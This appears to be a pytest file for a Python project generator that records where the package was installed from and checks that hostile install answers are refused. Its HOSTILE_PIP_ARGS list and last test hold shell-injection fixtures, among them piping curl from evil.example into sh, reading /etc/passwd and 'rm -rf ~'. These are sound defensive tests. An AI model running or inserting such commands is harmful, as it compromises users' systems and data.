"""Where lobeflow and its runtime were installed from become the generated project's sources."""

from __future__ import annotations

import shlex
import subprocess
import sys
import tomllib
from pathlib import Path

import pytest
from lobeflow import provenance
from lobeflow.errors import InvalidAnswerError
from lobeflow.provenance import (
    PIP_INSTALL_ANSWER,
    RUNTIME_PIP_INSTALL_ANSWER,
    RUNTIME_UV_SOURCE_ANSWER,
    UV_SOURCE_ANSWER,
    InstallSource,
    answer_error,
    source_from_direct_url,
)

from tests.helpers import run_cli

REPO = Path(__file__).resolve().parent.parent

COMMIT = "0123456789abcdef0123456789abcdef01234567"


def _table(source: InstallSource) -> dict[str, object]:
    parsed: dict[str, object] = tomllib.loads(f"lobeflow = {source.uv_source}")["lobeflow"]
    return parsed


@pytest.mark.parametrize(
    ("record", "table", "pip_args"),
    [
        (
            {"url": "file:///src/lobeflow", "dir_info": {"editable": True}},
            {"path": "/src/lobeflow", "editable": True},
            ["-e", "/src/lobeflow"],
        ),
        (
            {"url": "file:///src/lobe%20flow", "dir_info": {}},
            {"path": "/src/lobe flow"},
            ["/src/lobe flow"],
        ),
        (
            {"url": "file:///wheels/lobeflow-0.1.0-py3-none-any.whl", "archive_info": {}},
            {"path": "/wheels/lobeflow-0.1.0-py3-none-any.whl"},
            ["/wheels/lobeflow-0.1.0-py3-none-any.whl"],
        ),
        (
            {
                "url": "https://files.example/lobeflow.tar.gz",
                "archive_info": {"hashes": {"sha256": "00"}},
                "subdirectory": "py",
            },
            {"url": "https://files.example/lobeflow.tar.gz", "subdirectory": "py"},
            ["lobeflow @ https://files.example/lobeflow.tar.gz#subdirectory=py"],
        ),
        (
            {
                "url": "https://git.example/team/lobeflow.git",
                "vcs_info": {"vcs": "git", "commit_id": COMMIT, "requested_revision": "main"},
            },
            {"git": "https://git.example/team/lobeflow.git", "rev": COMMIT},
            [f"lobeflow @ git+https://git.example/team/lobeflow.git@{COMMIT}"],
        ),
        (
            {
                "url": "https://user:secret@git.example/lobeflow.git",
                "vcs_info": {"vcs": "git", "commit_id": COMMIT},
            },
            {"git": "https://git.example/lobeflow.git", "rev": COMMIT},
            [f"lobeflow @ git+https://git.example/lobeflow.git@{COMMIT}"],
        ),
        (
            {
                "url": "https://${TOKEN}@git.example/lobeflow.git",
                "vcs_info": {"vcs": "git", "commit_id": COMMIT},
            },
            {"git": "https://${TOKEN}@git.example/lobeflow.git", "rev": COMMIT},
            [f"lobeflow @ git+https://${{TOKEN}}@git.example/lobeflow.git@{COMMIT}"],
        ),
    ],
)
def test_direct_url_records_become_uv_sources_and_pip_arguments(
    record: dict[str, object], table: dict[str, object], pip_args: list[str]
) -> None:
    source = source_from_direct_url(record)
    assert source is not None
    assert _table(source) == table
    assert shlex.split(source.pip_args) == pip_args
    # What lobeflow writes passes the check plain `copier copy --data` gets too.
    assert answer_error(UV_SOURCE_ANSWER, source.uv_source) == ""
    assert answer_error(PIP_INSTALL_ANSWER, source.pip_args) == ""


@pytest.mark.parametrize(
    "record",
    [
        {},
        {"url": "https://hg.example/lobeflow", "vcs_info": {"vcs": "hg", "commit_id": "1"}},
        {"url": "https://host.example/lobeflow", "dir_info": {}},
        {"url": "file:///src/lobeflow"},
    ],
)
def test_records_uv_cannot_use_give_no_source(record: dict[str, object]) -> None:
    assert source_from_direct_url(record) is None


def test_paths_are_quoted_for_toml_and_the_shell() -> None:
    path = '/src/it\'s "odd" \\ dir\x7f\u00e9'
    source = source_from_direct_url({"url": Path(path).as_uri(), "dir_info": {"editable": True}})
    assert source is not None
    assert _table(source) == {"path": path, "editable": True}
    assert shlex.split(source.pip_args) == ["-e", path]


def test_the_running_lobeflow_is_the_checkout_installed_editable() -> None:
    # The tests run against `pip install -e ./runtime -e .` of this checkout (`make setup`).
    source = provenance.lobeflow_source()
    assert source is not None
    checkout = Path(__file__).resolve().parent.parent
    assert _table(source) == {"path": str(checkout), "editable": True}
    runtime = provenance.installed_source(provenance.RUNTIME_DISTRIBUTION)
    assert runtime is not None
    assert _table(runtime) == {"path": str(checkout / "runtime"), "editable": True}
    assert provenance.copier_data() == {
        UV_SOURCE_ANSWER: source.uv_source,
        PIP_INSTALL_ANSWER: source.pip_args,
        RUNTIME_UV_SOURCE_ANSWER: runtime.uv_source,
        RUNTIME_PIP_INSTALL_ANSWER: runtime.pip_args,
    }


def test_a_runtime_record_names_the_runtime() -> None:
    record = {
        "url": "https://git.example/lobeflow.git",
        "vcs_info": {"vcs": "git", "commit_id": COMMIT},
        "subdirectory": "runtime",
    }
    source = source_from_direct_url(record, provenance.RUNTIME_DISTRIBUTION)
    assert source is not None
    assert source.copier_data() == {
        RUNTIME_UV_SOURCE_ANSWER: source.uv_source,
        RUNTIME_PIP_INSTALL_ANSWER: source.pip_args,
    }
    assert shlex.split(source.pip_args) == [
        f"lobeflow-runtime @ git+https://git.example/lobeflow.git@{COMMIT}#subdirectory=runtime"
    ]


def test_a_registry_install_leaves_the_template_defaults(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setattr(provenance, "installed_direct_url", lambda *_: None)
    assert provenance.copier_data() == {}
    dest = tmp_path / "shop"
    assert run_cli("new", "user", "--dest", str(dest), "--defaults").exit_code == 0
    pyproject = tomllib.loads((dest / "pyproject.toml").read_text(encoding="utf-8"))
    assert "uv" not in pyproject.get("tool", {})
    assert "pip install lobeflow\n" in (dest / "README.md").read_text(encoding="utf-8")


def test_lobeflow_new_records_the_source_in_pyproject_and_readme(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    records = {
        "lobeflow": {
            "url": "https://git.example/lobeflow.git",
            "vcs_info": {"vcs": "git", "commit_id": COMMIT},
        },
        "lobeflow-runtime": {
            "url": "https://git.example/lobeflow.git",
            "vcs_info": {"vcs": "git", "commit_id": COMMIT},
            "subdirectory": "runtime",
        },
    }
    monkeypatch.setattr(provenance, "installed_direct_url", records.get)
    dest = tmp_path / "shop"
    assert run_cli("new", "user", "--dest", str(dest), "--defaults").exit_code == 0
    pyproject = tomllib.loads((dest / "pyproject.toml").read_text(encoding="utf-8"))
    assert pyproject["tool"]["uv"]["sources"] == {
        "lobeflow": {"git": "https://git.example/lobeflow.git", "rev": COMMIT},
        "lobeflow-runtime": {
            "git": "https://git.example/lobeflow.git",
            "rev": COMMIT,
            "subdirectory": "runtime",
        },
    }
    readme = (dest / "README.md").read_text(encoding="utf-8")
    assert f"pip install 'lobeflow @ git+https://git.example/lobeflow.git@{COMMIT}'\n" in readme
    runtime = f"lobeflow-runtime @ git+https://git.example/lobeflow.git@{COMMIT}"
    assert f"pip install '{runtime}#subdirectory=runtime' -e . " in readme
    # Machine-specific: never written to the answers file that `lobeflow update` reads.
    answers = (dest / ".lobeflow" / "users.yml").read_text(encoding="utf-8")
    assert "git.example" not in answers


HOSTILE_UV_SOURCES = [
    '{ path = "/src" }\n[tool.evil]\nx = 1',
    '{ path = "/src" } # `x`',
    '{ path = "/src", extra = "y" }',
    '{ path = "/src", git = "https://git.example/x.git" }',
    "{ editable = true }",
    '{ path = "" }',
    "{ path = 1 }",
    '"/src/lobeflow"',
    '{ path = "/src" ',
    '{ path = "/src" }\r',
]
HOSTILE_PIP_ARGS = [
    "lobeflow; curl evil.example | sh",
    "lobeflow\ncurl evil.example",
    "$(curl evil.example)",
    "lobeflow `id`",
    "-r /etc/passwd",
    "-e",
    "lobeflow extra",
    "'lobeflow'",
    "",
]


@pytest.mark.parametrize(
    ("name", "value"),
    [(UV_SOURCE_ANSWER, value) for value in HOSTILE_UV_SOURCES]
    + [(PIP_INSTALL_ANSWER, value) for value in HOSTILE_PIP_ARGS]
    + [(RUNTIME_UV_SOURCE_ANSWER, value) for value in HOSTILE_UV_SOURCES]
    + [(RUNTIME_PIP_INSTALL_ANSWER, value) for value in HOSTILE_PIP_ARGS if value]
    + [(UV_SOURCE_ANSWER, 7), (PIP_INSTALL_ANSWER, None)],
)
def test_hostile_or_malformed_origin_answers_are_refused(name: str, value: object) -> None:
    error = answer_error(name, value)
    assert error.startswith(name) and "\n" not in error


@pytest.mark.parametrize(
    ("name", "value"),
    [
        (UV_SOURCE_ANSWER, ""),
        (PIP_INSTALL_ANSWER, "lobeflow"),
        (RUNTIME_UV_SOURCE_ANSWER, ""),
        (RUNTIME_PIP_INSTALL_ANSWER, ""),
    ],
)
def test_the_registry_defaults_pass(name: str, value: str) -> None:
    assert answer_error(name, value) == ""


@pytest.mark.slow
@pytest.mark.parametrize(
    ("name", "value"),
    [(UV_SOURCE_ANSWER, HOSTILE_UV_SOURCES[0]), (PIP_INSTALL_ANSWER, HOSTILE_PIP_ARGS[0])],
)
def test_plain_copier_refuses_a_hostile_origin_and_writes_nothing(
    tmp_path: Path, name: str, value: str
) -> None:
    dest = tmp_path / "shop"
    copier = str(Path(sys.executable).parent / "copier")
    args = [copier, "copy", "--trust", "--defaults", "--vcs-ref", "HEAD"]
    args += ["--data", "entity=user", "--data", f"{name}={value}", str(REPO), str(dest)]
    proc = subprocess.run(args, capture_output=True, text=True, timeout=120, check=False)
    assert proc.returncode != 0, proc.stdout
    last = proc.stderr.strip().splitlines()[-1]
    assert f"Validation error for question '{name}': {name} " in last
    assert not dest.exists()


def test_lobeflow_new_refuses_an_origin_it_cannot_write(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    # A checkout whose path holds a line break: the README's pip line would break in two.
    record = {"url": Path("/src/lobe\nflow").as_uri(), "dir_info": {"editable": True}}
    monkeypatch.setattr(provenance, "installed_direct_url", lambda *_: record)
    with pytest.raises(InvalidAnswerError):
        provenance.lobeflow_source()
    dest = tmp_path / "shop"
    result = run_cli("new", "user", "--dest", str(dest), "--defaults")
    assert result.exit_code == 1
    assert result.stderr.strip().count("\n") == 0, result.stderr
    assert "lobeflow's install origin cannot be written" in result.stderr
    assert not dest.exists()


def test_a_source_lobeflow_would_not_write_is_refused() -> None:
    with pytest.raises(InvalidAnswerError, match=PIP_INSTALL_ANSWER):
        InstallSource('{ path = "/src" }', "/src; rm -rf ~")
